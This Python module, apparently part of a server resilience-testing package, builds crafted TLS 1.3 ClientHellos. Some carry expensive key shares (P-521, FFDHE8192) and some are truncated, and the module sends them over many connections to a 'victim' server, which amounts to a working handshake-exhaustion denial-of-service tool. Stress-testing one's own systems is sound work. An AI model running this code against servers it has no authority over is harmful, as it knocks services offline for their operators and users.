"""Attacks by TLS handshakes. This module builds the ClientHellos of TLS 1.3 itself (RFC 8446, 4.1.2)."""

import asyncio
import secrets
import ssl
import struct
from collections.abc import Sequence

from cryptography.hazmat.primitives.asymmetric import ec, x25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from resilience.attacks.attack import CONNECTIONS, Run
from resilience.attacks.connections import connected, trusting

X25519, P521, FFDHE2048, FFDHE8192 = 0x001D, 0x0019, 0x0100, 0x0104
_FFDHE_BYTES = {FFDHE2048: 256, FFDHE8192: 1024}
_CIPHERS = (0x1301, 0x1302, 0x1303)
_SIGNATURES = (0x0403, 0x0804, 0x0401, 0x0503, 0x0805)
_HANDSHAKE, _CLIENT_HELLO, _TLS_1_0, _TLS_1_2, _TLS_1_3 = 22, 1, 0x0301, 0x0303, 0x0304
_GROUPS, _SIGNATURE_ALGORITHMS, _VERSIONS, _KEY_SHARE = 10, 13, 43, 51  # extensions


def hello(group: int) -> bytes:
    """Return a record with a ClientHello whose key share is valid, but has no known secret."""
    share = struct.pack(">H", group) + _sized(_share(group), 2)
    extensions = b"".join(
        struct.pack(">H", number) + _sized(content, 2)
        for number, content in (
            (_GROUPS, _numbers((group,), 2)),
            (_SIGNATURE_ALGORITHMS, _numbers(_SIGNATURES, 2)),
            (_VERSIONS, _numbers((_TLS_1_3,), 1)),
            (_KEY_SHARE, _sized(share, 2)),
        )
    )
    session = _sized(secrets.token_bytes(32), 1)
    body = struct.pack(">H", _TLS_1_2) + secrets.token_bytes(32) + session + _numbers(_CIPHERS, 2)
    body += _sized(b"\0", 1) + _sized(extensions, 2)
    message = bytes([_CLIENT_HELLO]) + _sized(body, 3)
    return struct.pack(">BH", _HANDSHAKE, _TLS_1_0) + _sized(message, 2)


def _share(group: int) -> bytes:
    """Return a public value. In a finite field, it is an even power of two, which is valid and needs no computation."""
    if group == X25519:
        return x25519.X25519PrivateKey.generate().public_key().public_bytes_raw()
    if group == P521:
        point = ec.generate_private_key(ec.SECP521R1()).public_key()
        return point.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    size = _FFDHE_BYTES[group]
    return (1 << 2 * (1 + secrets.randbelow(4 * size - 2))).to_bytes(size, "big")


def _sized(content: bytes, length: int) -> bytes:
    return len(content).to_bytes(length, "big") + content


def _numbers(numbers: tuple[int, ...], length: int) -> bytes:
    return _sized(struct.pack(f">{len(numbers)}H", *numbers), length)


_HELLOS = 64  # number of different ClientHellos, made before the attack
HALF = 500  # connections
_SERVER_HELLO, _ALERT = 22, 21  # record types
_ANSWER_SECONDS = 60.0


def hellos(group: int) -> list[bytes]:
    """Return ClientHellos with a key share of one group."""
    return [hello(group) for _ in range(_HELLOS)]


def half() -> list[bytes]:
    """Return half a ClientHello."""
    return [hello(X25519)[:-40]]


async def begin(run: Run, records: Sequence[bytes], connections: int = CONNECTIONS) -> None:
    """Send a record over each connection, and cut the connection after the first bytes of the answer."""

    async def once(index: int) -> None:
        async with connected(run.victim, None) as connection:
            connection.writer.write(records[index % len(records)])
            async with asyncio.timeout(_ANSWER_SECONDS):
                run.answers[_named(await connection.reader.read(7))] += 1

    await run.repeat(connections, once)


async def complete(run: Run, version: ssl.TLSVersion) -> None:
    """Complete handshakes of one TLS version, one on each connection."""
    context = trusting(run.victim.authority, version=version)

    async def once(_: int) -> None:
        async with connected(run.victim, context):
            run.answers["handshake"] += 1

    await run.repeat(CONNECTIONS, once)


def _named(answer: bytes) -> str:
    if not answer:
        return "closed"
    if answer[0] == _ALERT:
        return f"TLS alert {answer[6]}" if len(answer) > 6 else "TLS alert"
    return "ServerHello" if answer[0] == _SERVER_HELLO else "other"
